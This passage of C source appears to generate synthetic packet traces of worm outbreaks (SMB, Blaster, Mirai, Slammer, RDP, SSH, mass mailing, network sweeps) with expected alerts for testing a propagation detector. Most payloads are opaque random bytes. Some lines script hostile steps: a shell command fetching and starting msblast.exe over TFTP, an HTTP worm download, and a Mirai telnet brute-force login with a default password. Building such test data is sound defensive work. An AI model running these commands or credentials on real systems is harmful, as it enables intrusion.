	fputs(tr->nexpect ? "\n  ],\n" : "],\n", f);
	json_host_rules(f, "max_action", "action", tr->maxact, tr->nmaxact);
	json_host_rules(f, "forbid", "rule", tr->forbid, tr->nforbid);
	fputs("  \"no_alert\": ", f);
	json_strlist(f, tr->no_alert, tr->nno_alert);
	fputs(",\n  \"one_incident\": ", f);
	json_strlist(f, tr->one_incident, tr->none_incident);
	fprintf(f, ",\n  \"exclusive\": %s,\n  \"incidents\": [", tr->exclusive ? "true" : "false");
	for (unsigned i = 0; i < tr->ninc; i++) {
		fprintf(f, "%s\n    {\"rule\": ", i ? "," : "");
		json_str(f, tr->inc[i].rule);
		fputs(", \"patient_zero\": ", f);
		json_str(f, tr->inc[i].pz);
		fprintf(f, ", \"hosts\": %u}", tr->inc[i].hosts);
	}
	fputs(tr->ninc ? "\n  ],\n" : "],\n", f);
	fputs("  \"infected_by\": [", f);
	for (unsigned i = 0; i < tr->nedges; i++) {
		fprintf(f, "%s\n    {\"host\": ", i ? "," : "");
		json_str(f, tr->edges[i].host);
		fputs(", \"by\": ", f);
		json_str(f, tr->edges[i].by);
		fputs("}", f);
	}
	fputs(tr->nedges ? "\n  ],\n" : "],\n", f);
	fputs("  \"never_block\": ", f);
	json_strlist(f, tr->never_block, tr->nnever_block);
	fputs("\n}\n", f);
}

/* ------------------------------------------------------------------ */
/* 6. Scenario building blocks                                         */
/* ------------------------------------------------------------------ */

static const char *const POOL_SRV[] = {"10.2.0.0/16"};
static const char *const POOL_PUB[] = {"198.51.100.0/24", "203.0.113.0/24"};
static const char *const POOL_MIX[] = {"10.2.0.0/16", "198.51.100.0/24", "203.0.113.0/24"};

static const char *const BG2[] = {"10.1.0.201", "10.1.0.202"};
static const char *const BG4[] = {"10.1.0.201", "10.1.0.202", "10.1.0.203", "10.1.0.204"};

static const uint16_t PORTS_SMB[] = {445, 139};

static const char *const WEB_NAMES[] = {
	"www.example.com",    "cdn.example.net",  "login.example.org", "news.example.com",
	"static.example.net", "api.example.org",  "video.example.com", "updates.example.net",
	"docs.example.org",   "shop.example.com",
};

/* TLS-sized exchanges; the bytes are opaque anyway. */
static const struct msg HTTPS[] = {CLIN(517), SRVN(4200), CLIN(126),
				   SRVN(258), CLIN(610),  SRVN(6400)};

/* SMB1 negotiate with the NT LM 0.12 dialect, then opaque SMB traffic; the
 * "exploit" is a large write the server answers with an error. */
static const struct msg SMB_EXPLOIT[] = {
	CLIB("\x00\x00\x00\x2f\xffSMBr\x00\x00\x00\x00\x18\x01\x28\x00\x00\x00\x00\x00\x00"
	     "\x00\x00\x00\x00\x00\x00\x00\x00\xff\xfe\x00\x00\x00\x00\x00\x0c\x00\x02"
	     "NT LM 0.12\x00"),
	SRVN(181),
	CLIN(252),
	SRVN(180),
	CLIN(2920),
	CLIN(1200),
	SRVN(39),
};

/* A normal SMB2 session: negotiate, session setup, tree connect, reads. */
static const struct msg SMB_SESSION[] = {CLIN(170), SRVN(250), CLIN(162), SRVN(300),
					 CLIN(104), SRVN(80),  CLIN(120), SRVN(4096)};

/* The gateway of the LAN, 10.1.0.254, with the MAC routed frames carry. */
static struct host *gateway(struct trace *t)
{
	struct host *g = Hs(t, "10.1.0.254", ST_LINUX);

	memcpy(g->mac, MAC_GW, 6);
	return g;
}

/* A QUIC (UDP 443) exchange: Initial, handshake, a little data. */
static int64_t quic_flow(struct trace *t, int64_t ts, struct host *c, struct host *s)
{
	uint8_t b[1252];
	uint16_t sp = eport(c);
	int64_t rtt = path_rtt(s);

	fill_random(t, b, sizeof(b));
	b[0] = 0xc3; /* long header, Initial */
	udp_emit(t, ts, c, sp, s, 443, b, 1252, NULL);
	udp_emit(t, ts + rtt, s, 443, c, sp, b, 1252, NULL);
	udp_emit(t, ts + rtt + 40, s, 443, c, sp, b, 1100, NULL);
	b[0] = 0x43; /* short header */
	udp_emit(t, ts + rtt + 300, c, sp, s, 443, b, 90, NULL);
	udp_emit(t, ts + 2 * rtt + 300, s, 443, c, sp, b, 1200, NULL);
	udp_emit(t, ts + 2 * rtt + 500, c, sp, s, 443, b, 40, NULL);
	return ts + 2 * rtt + 500;
}

/* Benign office traffic between start and end: each client resolves names
 * at 10.1.0.53 (which sometimes recurses upstream) and browses them over
 * HTTPS or QUIC.  Clients and the resolver go to no_alert. */
static void bg_office(struct trace *t, struct truth *tr, int64_t start, int64_t end,
		      const char *const *clients, size_t n)
{
	struct host *res = Hs(t, "10.1.0.53", ST_LINUX);
	struct host *up = Hs(t, "198.51.100.53", ST_LINUX);

	no_alert(tr, res);
	for (size_t i = 0; i < n; i++) {
		struct host *c = H(t, clients[i]);
		int64_t ts = start + (int64_t)rng_range(&t->rng, 0, 1500000);

		no_alert(tr, c);
		while (ts < end) {
			const char *name = WEB_NAMES[rng_next(&t->rng) % ARRAY_SIZE(WEB_NAMES)];
			struct host *srv = host(t, name_addr(name));
			int64_t at = dns_lookup(t, ts, c, res, name, 1,
						rng_pct(&t->rng, 30) ? up : NULL);

			if (rng_pct(&t->rng, 20))
				at = quic_flow(t, at + 150, c, srv);
			else
				at = tcp_attempt(t, at + 150, c, 0, srv, 443, OC_OPEN, HTTPS,
						 ARRAY_SIZE(HTTPS), 0);
			ts = at + (int64_t)rng_range(&t->rng, 800000, 5000000);
		}
	}
}

/* Distinct random addresses from the pools (none of them in avoid[]). */
static void pick_addrs(struct trace *t, struct addr *out, size_t n, const char *const *pools,
		       size_t npools, const struct addr *avoid, size_t navoid)
{
	for (size_t i = 0; i < n; i++) {
		bool dup;

		do {
			out[i] = addr_rand_in(&t->rng, pools[rng_next(&t->rng) % npools]);
			dup = false;
			for (size_t j = 0; j < i && !dup; j++)
				dup = addr_eq(out[i], out[j]);
			for (size_t j = 0; j < navoid && !dup; j++)
				dup = addr_eq(out[i], avoid[j]);
		} while (dup);
	}
}

static void shuffle_u16(struct trace *t, uint16_t *v, size_t n)
{
	for (size_t i = n; i > 1; i--) {
		size_t j = rng_next(&t->rng) % i;
		uint16_t x = v[i - 1];

		v[i - 1] = v[j];
		v[j] = x;
	}
}

/* n distinct ports in [lo, hi], including the `must` ones, shuffled. */
static void pick_ports(struct trace *t, uint16_t *out, size_t n, unsigned lo, unsigned hi,
		       const uint16_t *must, size_t nmust)
{
	size_t k = 0;

	for (; k < nmust && k < n; k++)
		out[k] = must[k];
	while (k < n) {
		uint16_t p = (uint16_t)rng_range(&t->rng, lo, hi);
		bool dup = false;

		for (size_t j = 0; j < k && !dup; j++)
			dup = out[j] == p;
		if (!dup)
			out[k++] = p;
	}
	shuffle_u16(t, out, n);
}

/* A worm's scanner: first contacts from h to random addresses of the
 * pools on port (and on port2 in parallel for every fourth target, as
 * SMB clients try 445 and 139), one every `gap` on average, from start
 * until end. */
struct wscan {
	struct host *h;
	uint16_t port, port2;
	int64_t start, end, gap;
	const char *const *pools;
	size_t npools;
	unsigned p_open, p_rst, p_unreach; /* percent; the rest get no answer */
	const struct msg *dialog;
	size_t ndialog;
	int retries;
};

static struct wscan smb_scan(struct host *h, int64_t start, int64_t end, int64_t gap)
{
	struct wscan w = {
		.h = h,
		.port = 445,
		.port2 = 139,
		.start = start,
		.end = end,
		.gap = gap,
		.pools = POOL_SRV,
		.npools = ARRAY_SIZE(POOL_SRV),
		.p_open = 3,
		.p_rst = 12,
		.p_unreach = 2,
		.dialog = SMB_EXPLOIT,
		.ndialog = ARRAY_SIZE(SMB_EXPLOIT),
		.retries = 2,
	};

	return w;
}

static unsigned worm_scan(struct trace *t, const struct wscan *w)
{
	size_t cap = (size_t)((w->end - w->start) / (w->gap / 2) + 2);
	struct addr *seen = xcalloc(cap, sizeof(*seen));
	unsigned n = 0;

	for (int64_t ts = w->start; ts < w->end && n < cap;) {
		struct host *d;
		unsigned r = (unsigned)(rng_next(&t->rng) % 100);
		enum outcome oc;

		pick_addrs(t, &seen[n], 1, w->pools, w->npools, seen, n);
		if (addr_eq(seen[n], w->h->ip))
			continue;
		d = host(t, seen[n]);
		if (r < w->p_open)
			oc = OC_OPEN;
		else if (r < w->p_open + w->p_rst)
			oc = OC_RST;
		else if (r < w->p_open + w->p_rst + w->p_unreach)
			oc = OC_UNREACH;
		else
			oc = OC_SILENT;
		tcp_attempt(t, ts, w->h, 0, d, w->port, oc, w->dialog, w->ndialog, w->retries);
		if (w->port2 && n % 4 == 0)
			tcp_attempt(t, ts + 40, w->h, 0, d, w->port2,
				    oc == OC_OPEN ? OC_OPEN_RST : oc, NULL, 0, w->retries);
		n++;
		ts += w->gap / 2 + (int64_t)(rng_next(&t->rng) % (uint64_t)w->gap);
	}
	free(seen);
	return n;
}

/* from exploits victim over SMB; the victim then fetches the worm body
 * from its attacker over HTTP on a high port (as Conficker does).
 * Returns the end of the download. */
static int64_t infect(struct trace *t, int64_t ts, struct host *from, struct host *victim)
{
	static const struct msg get[] = {CLI("GET /xafnhqf HTTP/1.0\r\nHost: attacker\r\n\r\n"),
					 SRVN(9000)};
	int64_t at = tcp_attempt(t, ts, from, 0, victim, 445, OC_OPEN, SMB_EXPLOIT,
				 ARRAY_SIZE(SMB_EXPLOIT), 0);

	return tcp_attempt(t, at + MS(120), victim, 0, from,
			   (uint16_t)(1024 + addr_hash(from->ip) % 4000), OC_OPEN, get,
			   ARRAY_SIZE(get), 0);
}

/* Emits the transport datagram l4 (checksummed here) as two fragments,
 * the first carrying first_len bytes (a multiple of 8). */
static void emit_fragmented(struct trace *t, int64_t ts, struct ip_fields f, struct pb *l4,
			    size_t first_len)
{
	struct pb ip;

	l4_checksum(&f, l4);
	if (f.src.af == 6) {
		f.v6frag = true;
		f.v6fragid = ++t->v6fragid * 2654435761u;
	}
	f.df = false;
	f.mf = true;
	f.fragoff = 0;
	ip_wrap(&ip, &f, l4->b, first_len);
	emit_ip(t, ts, &ip);
	f.mf = false;
	f.fragoff = (uint16_t)(first_len / 8);
	ip_wrap(&ip, &f, l4->b + first_len, l4->n - first_len);
	emit_ip(t, ts + 15, &ip);
}

/* Three first contacts that fail, below TRW's four: a detector that counts
 * a duplicated or re-captured RST or SYN twice flags this host. */
static void three_failures(struct trace *t, struct truth *tr, struct host *h, int64_t start)
{
	struct addr d[3];

	pick_addrs(t, d, 3, POOL_SRV, 1, NULL, 0);
	tcp_attempt(t, start, h, 0, host(t, d[0]), 8080, OC_RST, NULL, 0, 0);
	tcp_attempt(t, start + MS(300), h, 0, host(t, d[1]), 8443, OC_SILENT, NULL, 0, 5);
	tcp_attempt(t, start + MS(600), h, 0, host(t, d[2]), 9090, OC_RST, NULL, 0, 0);
	no_alert(tr, h);
}

/* The small SMB worm of the link-type scenarios: 12 internal targets. */
static void small_worm(struct trace *t, struct truth *tr, int64_t start)
{
	static const enum outcome ocs[12] = {OC_RST, OC_SILENT, OC_SILENT,  OC_OPEN,
					     OC_RST, OC_SILENT, OC_UNREACH, OC_SILENT,
					     OC_RST, OC_SILENT, OC_OPEN,    OC_SILENT};
	struct host *w = Hs(t, "10.1.0.5", ST_WIN);
	struct host *c6 = Hs(t, "fd00:1::201", ST_LINUX);
	struct host *r6 = Hs(t, "fd00:1::53", ST_LINUX);
	struct addr d[12];

	pick_addrs(t, d, 12, POOL_SRV, 1, NULL, 0);
	for (unsigned i = 0; i < 12; i++) {
		int64_t ts = start + i * MS(150) + (int64_t)rng_range(&t->rng, 0, 20000);

		tcp_attempt(t, ts, w, 0, host(t, d[i]), 445, ocs[i], SMB_EXPLOIT,
			    ARRAY_SIZE(SMB_EXPLOIT), 2);
		if (i % 3 == 0)
			tcp_attempt(t, ts + 40, w, 0, host(t, d[i]), 139,
				    ocs[i] == OC_OPEN ? OC_OPEN_RST : ocs[i], NULL, 0, 2);
	}
	bg_office(t, tr, 0, start + SEC(4), BG2, 1);
	three_failures(t, tr, Hs(t, "10.1.0.8", ST_WIN), start + MS(200));
	dns_lookup(t, start + MS(500), c6, r6, "www.example.com", 28, NULL);
	no_alert(tr, c6);
	no_alert(tr, r6);
	expect_ports(expect(tr, w, "smb-propagation", "isolate"), 2, PORTS_SMB);
	tr->exclusive = true;
}

/* ------------------------------------------------------------------ */
/* 7. Scenarios                                                        */
/* ------------------------------------------------------------------ */

static void sc_smb_worm(struct trace *t, struct truth *tr)
{
	struct host *pz = Hs(t, "10.1.0.5", ST_WIN);
	struct host *v1 = Hs(t, "10.1.0.6", ST_WIN);
	struct host *v2 = Hs(t, "10.1.0.7", ST_WIN);
	struct wscan w = smb_scan(pz, SEC(2), SEC(45), MS(33)); /* 30/s */

	bg_office(t, tr, 0, SEC(46), BG4, ARRAY_SIZE(BG4));
	worm_scan(t, &w);
	infect(t, SEC(22), pz, v1);
	infect(t, SEC(22) + MS(350), pz, v2);
	w.h = v1;
	w.start = SEC(27);
	worm_scan(t, &w);
	w.h = v2;
	w.start = SEC(31);
	worm_scan(t, &w);

	expect_not_before(expect(tr, pz, "smb-propagation", "isolate"), SEC(2));
	expect_ports(&tr->expect[0], 2, PORTS_SMB);
	expect_not_before(expect(tr, v1, "smb-propagation", "isolate"), SEC(27));
	expect_not_before(expect(tr, v2, "smb-propagation", "isolate"), SEC(31));
	incident(tr, "smb-propagation", pz, 3);
	infected_by(tr, v1, pz);
	infected_by(tr, v2, pz);
	tr->exclusive = true;
}

static void sc_blaster_rpc(struct trace *t, struct truth *tr)
{
	static const struct msg epm[] = {CLIN(72), SRVN(60), CLIN(156), SRVN(152)};
	static const struct msg dcom[] = {CLIN(116), SRVN(84), CLIN(1460), CLIN(260), SRVN(92)};
	static const struct msg exploit[] = {CLIN(72), SRVN(60), CLIN(1460), CLIN(244)};
	static const struct msg shell[] = {
		SRV("Microsoft Windows 2000 [Version 5.00.2195]\r\n(C) Copyright 1985-2000 "
		    "Microsoft Corp.\r\n\r\nC:\\WINNT\\system32>"),
		CLI("tftp -i 10.1.0.20 GET msblast.exe\n"),
		SRVN(600),
		CLI("start msblast.exe\n"),
		SRV("C:\\WINNT\\system32>"),
	};
	struct host *w = Hs(t, "10.1.0.20", ST_WIN);
	struct host *b = Hs(t, "10.1.0.21", ST_WIN);
	struct host *srv = Hs(t, "10.2.0.10", ST_WIN);

	bg_office(t, tr, 0, SEC(30), BG2, ARRAY_SIZE(BG2));
	for (int64_t ts = SEC(1); ts < SEC(28);
	     ts += SEC(4) + (int64_t)rng_range(&t->rng, 0, 900000)) {
		int64_t at = tcp_attempt(t, ts, b, 0, srv, 135, OC_OPEN, epm, ARRAY_SIZE(epm), 0);

		tcp_attempt(t, at + MS(2), b, 0, srv, 49158, OC_OPEN, dcom, ARRAY_SIZE(dcom), 0);
	}
	/* Blaster: 20 sequential addresses per burst, a burst every 1.8 s. */
	for (unsigned i = 0; i < 200; i++) {
		int64_t ts = SEC(3) + (i / 20) * MS(1800) + (i % 20) * MS(3) +
			     (int64_t)rng_range(&t->rng, 0, 1000);
		struct host *d = host(t, a4(10, 2, (i + 1) / 256, (i + 1) % 256));
		unsigned r = (unsigned)(rng_next(&t->rng) % 100);

		if (d == srv) {
			int64_t at = tcp_attempt(t, ts, w, 0, d, 135, OC_OPEN, exploit,
						 ARRAY_SIZE(exploit), 0);
			uint8_t rrq[] = "\x00\x01msblast.exe\x00octet";
			uint16_t vp = eport(srv), wp = eport(w);
			uint8_t blk[516];

			at = tcp_attempt(t, at + MS(900), w, 0, d, 4444, OC_OPEN, shell,
					 ARRAY_SIZE(shell), 0);
			/* The victim fetches the worm over TFTP; the data
			 * comes back from a new port, as TFTP does. */
			udp_emit(t, at - MS(300), srv, vp, w, 69, rrq, sizeof(rrq), NULL);
			fill_random(t, blk, sizeof(blk));
			blk[0] = 0;
			blk[1] = 3;
			udp_emit(t, at - MS(299), w, wp, srv, vp, blk, sizeof(blk), NULL);
			continue;
		}
		tcp_attempt(t, ts, w, 0, d, 135,
			    r < 2    ? OC_OPEN_RST
			    : r < 22 ? OC_RST
				     : OC_SILENT,
			    NULL, 0, 2);
	}
	expect_not_before(expect(tr, w, "rpc-propagation", "isolate"), SEC(3));
	expect_ports(&tr->expect[0], 1, (const uint16_t[]){135});
	no_alert(tr, b);
	no_alert(tr, srv);
	tr->exclusive = true;
}

static void sc_rdp_worm(struct trace *t, struct truth *tr)
{
	static const struct msg rdp[] = {
		CLIB("\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00"
		     "\x00"),
		SRVB("\x03\x00\x00\x13\x0e\xd0\x00\x00\x12\x34\x00\x02\x1f\x08\x00\x02\x00\x00"
		     "\x00"),
		CLIN(420),
		SRVN(1100),
	};
	struct host *w = Hs(t, "10.1.0.30", ST_WIN);
	struct wscan s = smb_scan(w, SEC(2), SEC(17), MS(100)); /* 10/s, Morto-like */

	s.port = 3389;
	s.port2 = 0;
	s.dialog = rdp;
	s.ndialog = ARRAY_SIZE(rdp);
	s.p_rst = 15;
	bg_office(t, tr, 0, SEC(18), BG2, ARRAY_SIZE(BG2));
	worm_scan(t, &s);
	expect_not_before(expect(tr, w, "rdp-propagation", "isolate"), SEC(2));
	expect_ports(&tr->expect[0], 1, (const uint16_t[]){3389});
	tr->exclusive = true;
}

static void sc_ssh_worm(struct trace *t, struct truth *tr)
{
	static const struct msg ssh[] = {
		SRV("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2\r\n"),
		CLI("SSH-2.0-libssh2_1.10.0\r\n"),
		CLIN(1024),
		SRVN(1080),
		CLIN(48),
		SRVN(564),
	};
	struct host *w = Hs(t, "10.1.0.31", ST_LINUX);
	struct wscan s = smb_scan(w, SEC(2), SEC(12), MS(50)); /* 20/s */

	s.port = 22;
	s.port2 = 0;
	s.pools = POOL_MIX;
	s.npools = ARRAY_SIZE(POOL_MIX);
	s.p_open = 5;
	s.p_rst = 20;
	s.p_unreach = 3;
	s.dialog = ssh;
	s.ndialog = ARRAY_SIZE(ssh);
	bg_office(t, tr, 0, SEC(14), BG2, ARRAY_SIZE(BG2));
	worm_scan(t, &s);
	expect_not_before(expect(tr, w, "ssh-propagation", "contain"), SEC(2));
	expect_ports(&tr->expect[0], 1, (const uint16_t[]){22});
	max_action(tr, w, "contain");
	tr->exclusive = true;
}

static uint32_t be32(const uint8_t *b)
{
	return (uint32_t)b[0] << 24 | (uint32_t)b[1] << 16 | (uint32_t)b[2] << 8 | b[3];
}

/* Mirai's scanner: raw SYNs with no options, seq = target address, one
 * source port for the whole run; 1 in 10 to 2323.  A target that answers
 * SYN-ACK gets the kernel's RST and, a moment later, a real telnet
 * connection for the credential brute force. */
static void mirai_scan(struct trace *t, struct host *cam, int64_t start, unsigned count,
		       int64_t gap)
{
	static const struct msg brute[] = {
		SRVB("\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"),
		CLIB("\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27"),
		SRV("\r\nlogin: "),
		CLI("root\r\n"),
		SRV("Password: "),
		CLI("xc3511\r\n"),
		SRV("\r\nLogin incorrect\r\nlogin: "),
	};
	uint16_t sport = (uint16_t)rng_range(&t->rng, 1024, 65535);

	for (unsigned i = 0; i < count; i++) {
		int64_t ts = start + i * gap + (int64_t)rng_range(&t->rng, 0, (uint32_t)gap / 2);
		struct host *d = host(t, addr_rand_in(&t->rng, POOL_PUB[rng_next(&t->rng) % 2]));
		uint16_t dport = i % 10 == 3 ? 2323 : 23;
		struct synstyle sty = {.opts = SO_NONE,
				       .win = (uint16_t)rng_next(&t->rng),
				       .fixed_seq = true,
				       .seq = be32(d->ip.b),
				       .random_id = true};
		unsigned r = (unsigned)(rng_next(&t->rng) % 100);

		if (r < 12) {
			tcp_attempt_sty(t, ts, cam, sport, d, dport, OC_RST, NULL, 0, 0, &sty);
		} else if (r < 16) {
			int64_t at = tcp_attempt_sty(t, ts, cam, sport, d, dport, OC_OPEN_RST, NULL,
						     0, 0, &sty);

			tcp_attempt(t, at + MS(300), cam, 0, d, dport, OC_OPEN, brute,
				    ARRAY_SIZE(brute), 0);
		} else {
			tcp_attempt_sty(t, ts, cam, sport, d, dport, OC_SILENT, NULL, 0, 0, &sty);
		}
	}
}

static void sc_telnet_mirai(struct trace *t, struct truth *tr)
{
	struct host *cam = Hs(t, "10.1.0.35", ST_LINUX);

	bg_office(t, tr, 0, SEC(10), BG2, ARRAY_SIZE(BG2));
	mirai_scan(t, cam, SEC(2), 300, MS(20));
	expect_not_before(expect(tr, cam, "telnet-propagation", "isolate"), SEC(2));
	expect_ports(&tr->expect[0], 2, (const uint16_t[]){23, 2323});
	tr->exclusive = true;
}

static void sc_slammer(struct trace *t, struct truth *tr)
{
	struct host *sql = Hs(t, "10.1.0.36", ST_WIN);
	uint16_t sport = eport(sql);
	uint8_t worm[376];

	/* The same 376 bytes every time: 0x04 (resolution service request),
	 * the 0x01 filler that overflows the buffer, then the code. */
	fill_random(t, worm, sizeof(worm));
	worm[0] = 0x04;
	memset(worm + 1, 0x01, 96);
	bg_office(t, tr, 0, SEC(6), BG2, ARRAY_SIZE(BG2));
	for (unsigned i = 0; i < 400; i++) {
		int64_t ts = SEC(2) + i * MS(5) + (int64_t)rng_range(&t->rng, 0, 2000);
		struct host *d = host(t, addr_rand_in(&t->rng, POOL_MIX[rng_next(&t->rng) % 3]));

		udp_emit(t, ts, sql, sport, d, 1434, worm, sizeof(worm), NULL);
	}
	expect_not_before(expect(tr, sql, "slammer-propagation", "isolate"), SEC(2));
	expect_ports(&tr->expect[0], 1, (const uint16_t[]){1434});
	tr->exclusive = true;
}

/* One SMTP delivery: MX lookup, then the dialogue. */
static int64_t smtp_send(struct trace *t, int64_t ts, struct host *c, struct host *mx,
			 const char *domain)
{
	static const struct msg smtp[] = {
		SRV("220 mx.example ESMTP Postfix\r\n"),
		CLI("EHLO pc.example\r\n"),
		SRV("250-mx.example\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n250 8BITMIME\r\n"),
		CLI("MAIL FROM:<offers@promo.example>\r\n"),
		SRV("250 2.1.0 Ok\r\n"),
		CLI("RCPT TO:<info@customer.example>\r\n"),
		SRV("250 2.1.5 Ok\r\n"),
		CLI("DATA\r\n"),
		SRV("354 End data with <CR><LF>.<CR><LF>\r\n"),
		CLIN(1800),
		CLI("\r\n.\r\n"),
		SRV("250 2.0.0 Ok: queued as 4F2A81C0A3\r\n"),
		CLI("QUIT\r\n"),
		SRV("221 2.0.0 Bye\r\n"),
	};
	struct host *res = Hs(t, "10.1.0.53", ST_LINUX);
	int64_t at = dns_lookup(t, ts, c, res, domain, 15, NULL);

	return tcp_attempt(t, at + 200, c, 0, mx, 25, OC_OPEN, smtp, ARRAY_SIZE(smtp), 0);
}

static void sc_smtp_mass_mailing(struct trace *t, struct truth *tr)
{
	struct host *bot = Hs(t, "10.1.0.40", ST_WIN);
	struct host *mta = Hs(t, "10.1.5.25", ST_LINUX);
	char dom[64];

	conf(tr, "inventory = (\n"
		 "  { net = \"10.1.5.25/32\"; name = \"mail\"; role = \"mailserver\"; }\n"
		 ");\n");
	bg_office(t, tr, 0, SEC(34), BG2, ARRAY_SIZE(BG2));
	for (unsigned i = 0; i < 30; i++) {
		snprintf(dom, sizeof(dom), "customer%02u.example", i);
		smtp_send(t, SEC(2) + i * SEC(1) + (int64_t)rng_range(&t->rng, 0, 300000), bot,
			  host(t, a4(203, 0, 113, 100 + i)), dom);
		snprintf(dom, sizeof(dom), "partner%02u.example", i);
		smtp_send(t, SEC(3) + i * SEC(1) + (int64_t)rng_range(&t->rng, 0, 300000), mta,
			  host(t, a4(198, 51, 100, 100 + i)), dom);
	}
	expect_not_before(expect(tr, bot, "smtp-mass-mailing", "contain"), SEC(2));
	max_action(tr, bot, "contain");
	no_alert(tr, mta);
	tr->exclusive = true;
}

/* fping-like sweep: targets[i] answers when answers[i]; the silent ones
 * get one retry after 500 ms. */
static void ping_sweep(struct trace *t, struct host *s, struct host **targets, const bool *answers,
		       size_t n, int64_t start, int64_t gap)
{
	uint16_t id = (uint16_t)rng_next(&t->rng);

	for (size_t i = 0; i < n; i++) {
		int64_t ts = start + (int64_t)i * gap;

		icmp_echo(t, ts, s, targets[i], false, id, (uint16_t)i, 56);
		if (answers[i])
			icmp_echo(t, ts + path_rtt(targets[i]), targets[i], s, true, id,
				  (uint16_t)i, 56);
		else
			icmp_echo(t, ts + MS(500), s, targets[i], false, id, (uint16_t)(i + n), 56);
	}
}

static void sc_icmp_sweep(struct trace *t, struct truth *tr)
{
	struct host *s = Hs(t, "10.1.0.50", ST_LINUX);
	struct host *tg[40];
	bool ans[40];

	for (unsigned i = 0; i < 40; i++) {
		tg[i] = host(t, a4(10, 2, 3, i + 1));
		ans[i] = i % 4 == 1; /* 10 answer */
	}
	bg_office(t, tr, 0, SEC(8), BG2, ARRAY_SIZE(BG2));
	ping_sweep(t, s, tg, ans, 40, SEC(2), MS(75)); /* 40 targets in 3 s */
	expect_not_before(expect(tr, s, "icmp-sweep", "watch"), SEC(2));
	max_action(tr, s, "watch");
	tr->exclusive = true;
}

static void sc_icmpv6_sweep(struct trace *t, struct truth *tr)
{
	struct host *s = Hs(t, "fd00:1::5", ST_LINUX);
	struct host *gw6 = Hs(t, "fd00:1::1", ST_LINUX);
	struct host *tg[40];
	bool ans[40];

	memcpy(gw6->mac, MAC_GW, 6);
	for (unsigned i = 0; i < 40; i++) {
		tg[i] = host(t, a6("fd00:2::", i + 1));
		ans[i] = i % 4 == 2;
	}
	bg_office(t, tr, 0, SEC(8), BG2, ARRAY_SIZE(BG2));
	nd_exchange(t, SEC(2) - MS(5), s, gw6);
	ping_sweep(t, s, tg, ans, 40, SEC(2), MS(75));
	expect_not_before(expect(tr, s, "icmp-sweep", "watch"), SEC(2));
	max_action(tr, s, "watch");
	no_alert(tr, gw6);
	tr->exclusive = true;
}

static void sc_arp_sweep(struct trace *t, struct truth *tr)
{
	static const unsigned live[] = {1, 10, 20, 21, 50, 77};
	struct host *sw = Hs(t, "10.1.7.99", ST_LINUX);
	struct host *b = Hs(t, "10.1.7.10", ST_WIN);
	struct host *gw = gateway(t);
	struct host *garp = Hs(t, "10.1.7.30", ST_LINUX);
	struct host *probe = Hs(t, "10.1.7.31", ST_WIN);
	struct addr zero = a4(0, 0, 0, 0);
	unsigned n = 0;

	/* arp-scan of the /24: one who-has every 20 ms, 6 hosts answer. */
	for (unsigned i = 1; i < 255; i++) {
		int64_t ts = SEC(1) + n++ * MS(20);
		bool up = false;

		if (i == 99)
			continue;
		for (size_t j = 0; j < ARRAY_SIZE(live); j++)
			up |= live[j] == i;
		arp_request(t, ts, sw, a4(10, 1, 7, i));
		if (up)
			arp_reply(t, ts + 400 + i, host(t, a4(10, 1, 7, i)), sw);
	}
	/* A PC resolving its gateway and three peers, then using them. */
	arp_request(t, SEC(2), b, gw->ip);
	arp_reply(t, SEC(2) + 300, gw, b);
	for (unsigned j = 0; j < 3; j++) {
		struct host *p = host(t, a4(10, 1, 7, live[2 + j]));

		arp_request(t, SEC(3) + j * MS(700), b, p->ip);
		arp_reply(t, SEC(3) + j * MS(700) + 250, p, b);
		tcp_attempt(t, SEC(3) + j * MS(700) + 600, b, 0, p, 445, OC_OPEN, SMB_SESSION,
			    ARRAY_SIZE(SMB_SESSION), 0);
		no_alert(tr, p);
	}
	/* A gratuitous ARP, and an RFC 5227 address probe and announcement. */
	emit_arp(t, SEC(4), 1, garp->mac, garp->ip, MAC_ZERO, garp->ip, MAC_BCAST);
	for (unsigned j = 0; j < 3; j++)
		emit_arp(t, SEC(2) + j * SEC(1), 1, probe->mac, zero, MAC_ZERO, probe->ip,
			 MAC_BCAST);
	emit_arp(t, SEC(5) + MS(500), 1, probe->mac, probe->ip, MAC_ZERO, probe->ip, MAC_BCAST);

	expect_not_before(expect(tr, sw, "arp-sweep", "contain"), SEC(1));
	max_action(tr, sw, "contain");
	no_alert(tr, b);
	no_alert(tr, gw);
	no_alert(tr, garp);
	no_alert(tr, probe);
	tr->exclusive = true;
}

static void sc_horizontal_p2p(struct trace *t, struct truth *tr)
{
	static const struct msg gnutella[] = {
		CLI("GNUTELLA CONNECT/0.6\r\nUser-Agent: BearShare 5.2.5.9\r\nX-Ultrapeer: "
		    "False\r\nX-Query-Routing: 0.1\r\n\r\n"),
		SRV("GNUTELLA/0.6 200 OK\r\nUser-Agent: LimeWire/4.12.6\r\nX-Ultrapeer: "
		    "True\r\n\r\n"),
		CLI("GNUTELLA/0.6 200 OK\r\n\r\n"),
		SRVN(23),
		CLIN(23),
	};
	static const struct msg rlpx[] = {CLIN(307), SRVN(210), CLIN(120),
					  SRVN(120), CLIN(64),	SRVN(64)};
	struct host *g = Hs(t, "10.1.0.80", ST_WIN);
	struct host *e = Hs(t, "10.1.0.81", ST_LINUX);
	struct addr peers[60];
	uint8_t b[98];

	bg_office(t, tr, 0, SEC(24), BG2, ARRAY_SIZE(BG2));
	/* BearShare: 60 peers from its host cache, 3 accept, many refuse. */
	pick_addrs(t, peers, 60, POOL_PUB, 2, NULL, 0);
	for (unsigned i = 0; i < 60; i++) {
		int64_t ts = SEC(2) + i * MS(330) + (int64_t)rng_range(&t->rng, 0, 100000);
		enum outcome oc = i == 5 || i == 27 || i == 44 ? OC_OPEN
				  : i % 2 == 0		       ? OC_RST
							       : OC_SILENT;

		tcp_attempt(t, ts, g, 0, host(t, peers[i]), 6346, oc, gnutella,
			    ARRAY_SIZE(gnutella), 2);
	}
	/* geth: 50 peers on 30303 within 4 s, 47 accept; discovery over UDP. */
	pick_addrs(t, peers, 50, POOL_PUB, 2, NULL, 0);
	for (unsigned i = 0; i < 50; i++) {
		int64_t ts = SEC(3) + i * MS(80) + (int64_t)rng_range(&t->rng, 0, 30000);
		enum outcome oc = i == 10 || i == 25 || i == 40 ? OC_SILENT : OC_OPEN;

